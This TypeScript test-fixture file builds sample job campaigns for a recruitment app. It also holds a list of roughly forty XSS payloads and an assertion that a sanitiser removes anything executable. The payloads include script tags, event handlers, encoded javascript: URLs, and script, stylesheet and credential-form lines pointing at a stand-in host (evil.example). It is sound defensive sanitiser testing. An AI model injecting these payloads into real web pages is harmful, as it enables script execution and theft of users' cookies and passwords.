// Upstream campaigns for tests of the catalogue and the app, and the place
// their JobPosting gives (not used at run time).
import assert from 'node:assert/strict';
import type { Campaign } from '../../contract/index.ts';
import { addressOf } from '../../test/addresses.ts';

// With the campaigns, for the catalogue's tests; the widget's take it from server/test/.
export { addressOf };

let nextId = 1000;

type Address = NonNullable<Campaign['address']>;

/** A city in France without street, postal code or name; at `place` (degrees) when it has coordinates. */
export function cityInFrance(city: string, place: { lat: number; lon: number } | null = null): Address {
  return addressOf({ city, country: 'France', latitude: place?.lat ?? null, longitude: place?.lon ?? null });
}

/** An online campaign broadcast on jobboard_test, with its embeds; override any field. */
export function upstreamCampaign(overrides: Partial<Campaign> = {}): Campaign {
  const id = overrides.id ?? nextId++;
  return {
    id,
    company_id: 1,
    company_name: 'Acme',
    manage_name: `Internal ${id}`,
    name: `Backend developer ${id}`,
    description: '<p>Build <strong>things</strong>.</p>',
    profile: '<p>Curious.</p>',
    job_type: 'Permanent contract',
    contract_duration: null,
    job_start_date: '2027-01-04',
    date_end: null,
    working_time: 'Full time',
    salary_min: 42000,
    salary_max: 52000,
    unit_id: null,
    status: 'online',
    created_at: '2026-11-01T10:00:00.000Z',
    updated_at: '2026-11-20T10:00:00.000Z',
    last_activation_at: '2026-11-02T10:00:00.000Z',
    address: {
      latitude: null,
      longitude: null,
      street_number: '1',
      street: 'rue de la République',
      postal_code: '69002',
      city: 'Lyon',
      country: 'France',
      name: null,
    },
    channels: [{ id: 1, value: 'jobboard_test', name: 'Test board', entity_id: null }],
    ...overrides,
  };
}

/** The JobPosting's jobLocation for a postal address: a schema.org Place. */
export function placeAt(address: {
  streetAddress?: string;
  postalCode?: string;
  addressLocality: string;
  addressCountry: string;
}) {
  return { '@type': 'Place', address: { '@type': 'PostalAddress', ...address } };
}

// Classic XSS vectors (OWASP filter-evasion cheat sheet and friends). After
// sanitising, none may leave anything a browser would execute or style.
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="//evil.example">protocol-relative</a>',
  '<p onclick="alert(1)" onmouseover="alert(1)">text</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>body{display:none}</style><p>hidden page</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<div id="x" class="y" data-x="1">attributes</div>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<textarea><script>alert(1)</script></textarea>',
  '<p>ok</p><script>document.cookie</script>',
  '<a href="https://board.example" onclick="steal()" target="_self">a link</a>',
];

/** What must never survive: executable tags, event handlers, script URLs, styles. */
export function assertHarmless(html: string): void {
  assert.doesNotMatch(
    html,
    /<\s*(script|style|iframe|object|embed|svg|math|img|link|meta|base|form|input|button|video|audio|source|body|template|noscript|textarea|details)\b/i,
  );
  assert.doesNotMatch(html, /\son[a-z]+\s*=/i, 'no event handler attribute');
  assert.doesNotMatch(html, /(javascript|vbscript|data):/i, 'no script or data URL');
  assert.doesNotMatch(html, /\sstyle\s*=/i, 'no style attribute');
  assert.doesNotMatch(html, /\s(id|class|data-[a-z-]+)\s*=/i, 'no attribute that could hook page CSS or scripts');
  assert.doesNotMatch(html, /href="\/\//i, 'no protocol-relative link');
}
